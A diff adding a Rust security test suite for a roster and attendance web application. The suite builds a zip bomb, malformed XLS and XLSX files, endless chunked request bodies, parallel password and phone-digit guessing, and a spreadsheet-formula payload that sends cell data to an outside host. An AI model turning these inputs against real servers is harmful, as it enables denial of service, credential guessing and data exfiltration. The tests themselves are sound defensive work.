@@ -1,0 +1,404 @@
+//! Hostile input: spreadsheets that declare more than they hold, bodies larger than any form,
+//! parallel guesses at passwords and phone digits, and a unit administrator reaching into
+//! another unit's people. Each scenario is what an attacker sent; the server must refuse
+//! politely and stay up.
+
+use std::io::Write;
+
+use futures_util::future::join_all;
+use reqwest::multipart::{Form, Part};
+use serde_json::{json, Value};
+
+use crate::harness::{error_of, Client, TestApp, PASSWORD};
+
+async fn upload(c: &Client, path: &str, name: &str, bytes: Vec<u8>) -> reqwest::Response {
+    let form = Form::new().part("file", Part::bytes(bytes).file_name(name.to_string()));
+    c.post_multipart(path, form).await
+}
+
+async fn still_up(t: &TestApp) {
+    assert_eq!(t.client().get("/healthz").await.status(), 200, "the server is still answering");
+}
+
+/// A workbook with a value in the first cell and one in the last cell Excel allows.
+fn corner_to_corner() -> Vec<u8> {
+    let mut book = rust_xlsxwriter::Workbook::new();
+    let sheet = book.add_worksheet();
+    sheet.write_string(0, 0, "姓名").unwrap();
+    sheet.write_string(1_048_575, 16_383, "x").unwrap();
+    book.save_to_buffer().unwrap()
+}
+
+/// A zip whose one entry inflates past the limit: a few hundred kilobytes on the wire.
+fn zip_bomb() -> Vec<u8> {
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options =
+        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    zip.start_file("xl/sharedStrings.xml", options).unwrap();
+    let chunk = vec![b'A'; 1 << 20];
+    for _ in 0..101 {
+        zip.write_all(&chunk).unwrap();
+    }
+    zip.finish().unwrap().into_inner()
+}
+
+/// An XLS workbook of one sheet holding `cells` (row, column, number), in BIFF8 records.
+fn xls(cells: &[(u16, u16, f64)]) -> Vec<u8> {
+    fn record(out: &mut Vec<u8>, typ: u16, data: &[u8]) {
+        out.extend_from_slice(&typ.to_le_bytes());
+        out.extend_from_slice(&(data.len() as u16).to_le_bytes());
+        out.extend_from_slice(data);
+    }
+    let bof = |dt: u16| [&0x0600u16.to_le_bytes()[..], &dt.to_le_bytes(), &[0u8; 12]].concat();
+    let mut globals = Vec::new();
+    record(&mut globals, 0x0809, &bof(0x0005));
+    let bound_sheet_at = globals.len() + 4;
+    record(&mut globals, 0x0085, &[0, 0, 0, 0, 0, 0, 2, 0, b'S', b'1']);
+    record(&mut globals, 0x000A, &[]);
+    let sheet_at = globals.len() as u32;
+    globals[bound_sheet_at..bound_sheet_at + 4].copy_from_slice(&sheet_at.to_le_bytes());
+    record(&mut globals, 0x0809, &bof(0x0010));
+    for (row, col, v) in cells {
+        let data =
+            [&row.to_le_bytes()[..], &col.to_le_bytes(), &0u16.to_le_bytes(), &v.to_le_bytes()].concat();
+        record(&mut globals, 0x0203, &data);
+    }
+    record(&mut globals, 0x000A, &[]);
+    let mut file = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
+    file.create_stream("/Workbook").unwrap().write_all(&globals).unwrap();
+    file.flush().unwrap();
+    file.into_inner().into_inner()
+}
+
+async fn spreadsheets_are_read_within_bounds(t: TestApp) {
+    let admin = t.api_as("admin").await;
+    let member = t.api_as("wuyilu").await;
+    let camp = t.scalar("SELECT id FROM campaigns ORDER BY id LIMIT 1").await;
+    let placements = format!("/api/v1/campaigns/{camp}/placements/import");
+
+    let file = corner_to_corner();
+    assert!(file.len() < 10_000, "a tiny file: {} bytes", file.len());
+    let (status, _, message, _) =
+        error_of(upload(&member, &placements, "投放.xlsx", file.clone()).await).await;
+    assert_eq!(status, 422, "{message}");
+    assert!(message.contains("60000行"), "names the limit: {message}");
+    let (status, _, message, _) =
+        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "花名册.xlsx", file).await).await;
+    assert_eq!((status, message.contains("60000行")), (422, true), "{message}");
+    still_up(&t).await;
+
+    let (status, _, message, _) =
+        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "花名册.xlsx", zip_bomb()).await).await;
+    assert_eq!(status, 422, "{message}");
+    assert!(message.contains("解压后超过100MB"), "{message}");
+
+    // XLS: a broken container and a sheet spanning the whole grid are refused; a real one reads.
+    let mut broken = xls(&[(0, 0, 1.0)]);
+    broken[44..48].copy_from_slice(&u32::MAX.to_le_bytes()); // four billion FAT sectors
+    let resp = upload(&admin, "/api/v1/people/import?mode=preview", "花名册.xls", broken).await;
+    assert!([415, 422].contains(&resp.status().as_u16()), "refused politely: {}", resp.status());
+    still_up(&t).await;
+    let wide = xls(&[(0, 0, 1.0), (59_000, 255, 2.0)]);
+    let (status, _, message, _) =
+        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "花名册.xls", wide).await).await;
+    assert_eq!(status, 422);
+    assert!(message.contains("1500000个单元格"), "{message}");
+    let sheet =
+        qinglian::services::sheet::read_sheet(&xls(&[(0, 0, 7.0), (2, 1, 13_800_138_000.0)])).unwrap();
+    assert_eq!(sheet.rows.len(), 3);
+    assert_eq!(sheet.rows[2], (3, vec![String::new(), "13800138000".to_string()]));
+
+    // CSV: a million commas on one line; more rows than any roster.
+    let commas = format!("姓名{}\n", ",".repeat(1_000_000));
+    let (status, _, message, _) =
+        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "a.csv", commas.into_bytes()).await)
+            .await;
+    assert_eq!((status, message.contains("256列")), (422, true), "{message}");
+    let rows = "姓名,单位\n".to_string() + &"张三,东庄村\n".repeat(60_001);
+    let (status, _, message, _) =
+        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "a.csv", rows.into_bytes()).await)
+            .await;
+    assert_eq!((status, message.contains("60000行")), (422, true), "{message}");
+    still_up(&t).await;
+}
+
+/// Sends a request head, then `chunk` again and again until the server answers (or `chunk` is
+/// empty: nothing after the head). Returns the answer's status. A server that waited for the
+/// whole body would never answer.
+async fn raw_status(t: &TestApp, head: String, chunk: Vec<u8>) -> u16 {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let stream = tokio::net::TcpStream::connect(t.base.trim_start_matches("http://")).await.unwrap();
+    let (mut rd, mut wr) = stream.into_split();
+    let writer = tokio::spawn(async move {
+        wr.write_all(head.as_bytes()).await?;
+        while !chunk.is_empty() {
+            wr.write_all(&chunk).await?;
+        }
+        std::future::pending::<()>().await;
+        Ok::<_, std::io::Error>(())
+    });
+    let mut buf = vec![0u8; 512];
+    let n = tokio::time::timeout(std::time::Duration::from_secs(20), rd.read(&mut buf))
+        .await
+        .expect("the server answers without waiting for the body")
+        .unwrap();
+    writer.abort();
+    let line = String::from_utf8_lossy(&buf[..n]).to_string();
+    line.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("{line}"))
+}
+
+/// One chunk of a chunked body: 64 KiB of `a`.
+fn chunk_of_a() -> Vec<u8> {
+    [&b"10000\r\n"[..], &vec![b'a'; 0x10000], b"\r\n"].concat()
+}
+
+async fn bodies_are_limited_before_they_are_read(t: TestApp) {
+    let pledge = t.scalar("SELECT id FROM pledges ORDER BY id LIMIT 1").await;
+    let form = "Content-Type: application/x-www-form-urlencoded";
+    // A declared 250 MB is refused from its headers.
+    let head =
+        format!("POST /login HTTP/1.1\r\nHost: t\r\n{form}\r\nContent-Length: {}\r\n\r\n", 250u64 << 20);
+    assert_eq!(raw_status(&t, head, Vec::new()).await, 413);
+    // An endless body with no token to check it against is refused before it is read.
+    let head =
+        format!("POST /p/{pledge} HTTP/1.1\r\nHost: t\r\n{form}\r\nTransfer-Encoding: chunked\r\n\r\n");
+    assert_eq!(raw_status(&t, head, chunk_of_a()).await, 403);
+    // With a token to compare (a sign-in form's cookie), it stops at the form limit.
+    let head = format!(
+        "POST /login HTTP/1.1\r\nHost: t\r\n{form}\r\nCookie: ql_pre=abc\r\nTransfer-Encoding: chunked\r\n\r\n"
+    );
+    assert_eq!(raw_status(&t, head, chunk_of_a()).await, 413);
+    // Anonymous multipart gets the form limit, not the upload limit.
+    let head = format!(
+        "POST /api/v1/people/import HTTP/1.1\r\nHost: t\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: {}\r\n\r\n",
+        3 << 20
+    );
+    assert_eq!(raw_status(&t, head, Vec::new()).await, 413);
+    // JSON over the limit gets the JSON error.
+    let admin = t.api_as("admin").await;
+    let big = json!({"name": "x".repeat(2 << 20)});
+    let (status, code, _, _) = error_of(admin.post_json("/api/v1/tokens", &big).await).await;
+    assert_eq!((status, code.as_str()), (413, "payload_too_large"));
+    still_up(&t).await;
+}
+
+async fn parallel_guesses_never_pass_the_lockout(t: TestApp) {
+    let guesses = (0..25).map(|_| async {
+        t.client()
+            .post_json("/api/v1/auth/login", &json!({"username": "jiwei", "password": "Wrong#pass1"}))
+            .await
+    });
+    let statuses: Vec<u16> = join_all(guesses).await.iter().map(|r| r.status().as_u16()).collect();
+    assert!(statuses.iter().all(|s| *s == 422 || *s == 429), "{statuses:?}");
+    let checked = t
+        .scalar(
+            "SELECT COUNT(*) FROM audit_log WHERE actor_name = 'jiwei' AND action = 'auth.login'
+             AND detail LIKE '%bad_password%'",
+        )
+        .await;
+    assert_eq!(checked, 5, "exactly five passwords were checked");
+    let resp =
+        t.client().post_json("/api/v1/auth/login", &json!({"username": "jiwei", "password": PASSWORD})).await;
+    assert_eq!(resp.status(), 429, "locked, even for the right password");
+
+    // Nineteen wrong and one right at once: still at most five checks, and the right one gets
+    // in only if it was among them.
+    let t = &t;
+    let attempts = (0..20).map(|i| async move {
+        let password = if i == 10 { PASSWORD } else { "Wrong#pass1" };
+        t.client().post_json("/api/v1/auth/login", &json!({"username": "shenji", "password": password})).await
+    });
+    let statuses: Vec<u16> = join_all(attempts).await.iter().map(|r| r.status().as_u16()).collect();
+    let checked = t
+        .scalar(
+            "SELECT COUNT(*) FROM audit_log WHERE actor_name = 'shenji' AND action = 'auth.login'
+             AND (detail LIKE '%bad_password%' OR outcome = 'ok')",
+        )
+        .await;
+    assert!(
+        checked <= 5 + statuses.iter().filter(|s| **s == 200).count() as i64,
+        "{checked} checks: {statuses:?}"
+    );
+    still_up(t).await;
+}
+
+async fn phone_digits_cannot_be_guessed(t: TestApp) {
+    let org = t.api_as("jiwei").await;
+    let activity = t.scalar("SELECT id FROM activities WHERE kind = 'warning_education'").await;
+    let host = t.scalar("SELECT id FROM units WHERE name = '市纪委监委'").await;
+    let now = qinglian::db::now();
+    let body = json!({
+        "title": "警示教育（防代签）", "kind": "warning", "host_unit_id": host, "venue": "礼堂",
+        "starts_at": qinglian::domain::format_datetime(now), "ends_at": qinglian::domain::format_datetime(now + 7200),
+        "audience": {"ranks": ["科级"]}
+    });
+    let sitting = org.post_json(&format!("/api/v1/activities/{activity}/sittings"), &body).await;
+    let sitting = sitting.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
+    let (name, phone): (String, String) =
+        sqlx::query_as("SELECT name, phone FROM people WHERE rank = '科级' ORDER BY id LIMIT 1")
+            .fetch_one(&t.app.db.pool)
+            .await
+            .unwrap();
+    let code =
+        org.get_json(&format!("/api/v1/sittings/{sitting}/qr")).await["code"].as_str().unwrap().to_string();
+    let right = phone[7..].to_string();
+    let wrong: Vec<String> = (0..48).map(|i| format!("{:04}", i)).filter(|d| *d != right).take(45).collect();
+    let tr = &t;
+    let guess =
+        |body: Value| async move { tr.client().post_json("/api/v1/signin", &body).await.status().as_u16() };
+    // Eight parallel guesses on one phone's pass: five are checked, the rest refused.
+    let pass = t.app.signer.pass(sitting, qinglian::db::now());
+    let statuses =
+        join_all(wrong[..8].iter().map(|d| guess(json!({"pass": pass, "name": name, "last4": d})))).await;
+    assert_eq!(statuses.iter().filter(|s| **s == 422).count(), 5, "{statuses:?}");
+    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 3, "{statuses:?}");
+    // The room's code with the same name: the name has had eight attempts (refused ones count
+    // too), so two more are checked, ten in all, and no more.
+    let statuses =
+        join_all(wrong[8..].iter().map(|d| guess(json!({"code": code, "name": name, "last4": d})))).await;
+    assert_eq!(statuses.iter().filter(|s| **s == 422).count(), 2, "{statuses:?}");
+    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), wrong.len() - 8 - 2);
+    // The right digits are refused now too; the person asks the clerk.
+    let (status, _, message, _) = error_of(
+        t.client().post_json("/api/v1/signin", &json!({"code": code, "name": name, "last4": right})).await,
+    )
+    .await;
+    assert_eq!(status, 429);
+    assert!(message.contains("现场工作人员"), "{message}");
+    assert_eq!(t.scalar(&format!("SELECT COUNT(*) FROM checkins WHERE sitting_id = {sitting}")).await, 0);
+    // The organiser sees the refused attempts.
+    let attendance = org.get_json(&format!("/api/v1/sittings/{sitting}/attendance")).await;
+    assert!(attendance["refused"].as_i64().unwrap() >= 6, "{attendance}");
+}
+
+async fn a_unit_admin_cannot_take_another_units_people(t: TestApp) {
+    let (id, staff_no, unit, rank, party): (i64, String, i64, String, i64) = sqlx::query_as(
+        "SELECT p.id, p.staff_no, p.unit_id, p.rank, p.party_member FROM people p JOIN units u ON u.id = p.unit_id
+         WHERE u.name = '五一路派出所' AND p.staff_no IS NOT NULL AND p.rank <> '' ORDER BY p.id LIMIT 1",
+    )
+    .fetch_one(&t.app.db.pool)
+    .await
+    .unwrap();
+    let name: String = sqlx::query_scalar("SELECT name FROM people WHERE id = $1")
+        .bind(id)
+        .fetch_one(&t.app.db.pool)
+        .await
+        .unwrap();
+    let dongzhuang = t.api_as("dongzhuang").await;
+    let csv = format!("姓名,单位,工号\n{name},东庄村,{staff_no}\n");
+    for mode in ["preview", "all"] {
+        let resp = upload(
+            &dongzhuang,
+            &format!("/api/v1/people/import?mode={mode}"),
+            "a.csv",
+            csv.clone().into_bytes(),
+        )
+        .await;
+        let report: Value = resp.json().await.unwrap();
+        assert_eq!(report["rows"][0]["action"], "error", "{report}");
+        assert!(report["rows"][0]["errors"][0].as_str().unwrap().contains("属于其他单位"), "{report}");
+        assert_eq!(report["written"], false);
+    }
+    let after: (i64, String, i64) =
+        sqlx::query_as("SELECT unit_id, rank, party_member FROM people WHERE id = $1")
+            .bind(id)
+            .fetch_one(&t.app.db.pool)
+            .await
+            .unwrap();
+    assert_eq!(after, (unit, rank.clone(), party), "untouched");
+
+    // The city's administrator may move her, and a file without the rank column keeps her rank.
+    let admin = t.api_as("admin").await;
+    let resp = upload(&admin, "/api/v1/people/import?mode=all", "a.csv", csv.into_bytes()).await;
+    let report: Value = resp.json().await.unwrap();
+    assert_eq!(report["updated"], 1, "{report}");
+    let after: (String, String, i64) = sqlx::query_as(
+        "SELECT u.name, p.rank, p.party_member FROM people p JOIN units u ON u.id = p.unit_id WHERE p.id = $1",
+    )
+    .bind(id)
+    .fetch_one(&t.app.db.pool)
+    .await
+    .unwrap();
+    assert_eq!(after, ("东庄村".to_string(), rank, party));
+}
+
+async fn a_password_change_ends_the_other_sessions(t: TestApp) {
+    let here = t.api_as("jiwei").await;
+    let elsewhere = t.api_as("jiwei").await;
+    let browser = t.browser_as("jiwei").await;
+    let token =
+        here.post_json("/api/v1/tokens", &json!({"name": "对接"})).await.json::<Value>().await.unwrap();
+    let mut integration = t.client();
+    integration.token = Some(token["token"].as_str().unwrap().to_string());
+    assert_eq!(integration.get("/api/v1/me").await.status(), 200);
+    let resp = here
+        .post_json("/api/v1/me/password", &json!({"current": PASSWORD, "password": "Another#2022pass"}))
+        .await;
+    assert_eq!(resp.status(), 204);
+    assert_eq!(here.get("/api/v1/me").await.status(), 200, "the session that changed it stays");
+    assert_eq!(elsewhere.get("/api/v1/me").await.status(), 401);
+    assert_eq!(integration.get("/api/v1/me").await.status(), 401);
+    assert_eq!(browser.get("/").await.status(), 303, "the browser is signed out");
+
+    // An administrator sees and ends a user's sessions.
+    let admin = t.api_as("admin").await;
+    let id = t.scalar("SELECT id FROM users WHERE username = 'jiwei'").await;
+    let sessions = admin.get_json(&format!("/api/v1/users/{id}/sessions")).await;
+    assert_eq!(sessions.as_array().unwrap().len(), 1, "{sessions}");
+    let resp = admin
+        .http
+        .delete(format!("{}/api/v1/users/{id}/sessions", admin.base))
+        .bearer_auth(admin.token.clone().unwrap())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 204);
+    assert_eq!(here.get("/api/v1/me").await.status(), 401);
+    let resp = t.api_as("dongzhuang").await.get(&format!("/api/v1/users/{id}/sessions")).await;
+    assert_eq!(resp.status(), 403);
+}
+
+async fn exports_do_not_carry_live_formulas(t: TestApp) {
+    let formula = "=HYPERLINK(\"http://x/?\"&A1,\"点击\")";
+    let resp =
+        t.client().post_json("/api/v1/auth/login", &json!({"username": formula, "password": "x"})).await;
+    assert_eq!(resp.status(), 422);
+    let auditor = t.browser_as("shenji").await;
+    let csv = auditor.text("/audit/export.csv").await;
+    assert!(csv.contains("'=HYPERLINK"), "neutralised");
+    assert!(
+        !csv.lines().any(|l| l.split(',').any(|f| f.trim_matches('"').starts_with('='))),
+        "no cell starts with ="
+    );
+}
+
+async fn text_that_is_not_text_never_gets_in(t: TestApp) {
+    let c = t.client();
+    let resp = c
+        .post_json("/api/v1/auth/login", &json!({"username": "gu\u{0}es\u{202e}s\u{7}", "password": "x"}))
+        .await;
+    assert_eq!(resp.status(), 422);
+    let csrf = c.csrf_from("/login").await;
+    let resp = c
+        .post_form("/login", &[("_csrf", &csrf), ("username", "fo\u{0}rm\u{2066}"), ("password", "x")])
+        .await;
+    assert_eq!(resp.status(), 422);
+    let names: Vec<String> = sqlx::query_scalar(
+        "SELECT actor_name FROM audit_log WHERE action = 'auth.login' AND outcome = 'failed' ORDER BY id",
+    )
+    .fetch_all(&t.app.db.pool)
+    .await
+    .unwrap();
+    assert_eq!(names, vec!["guess".to_string(), "form".to_string()]);
+}
+
+crate::on_both_engines!(
+    spreadsheets_are_read_within_bounds,
+    bodies_are_limited_before_they_are_read,
+    parallel_guesses_never_pass_the_lockout,
+    phone_digits_cannot_be_guessed,
+    a_unit_admin_cannot_take_another_units_people,
+    a_password_change_ends_the_other_sessions,
+    exports_do_not_carry_live_formulas,
+    text_that_is_not_text_never_gets_in,
+);
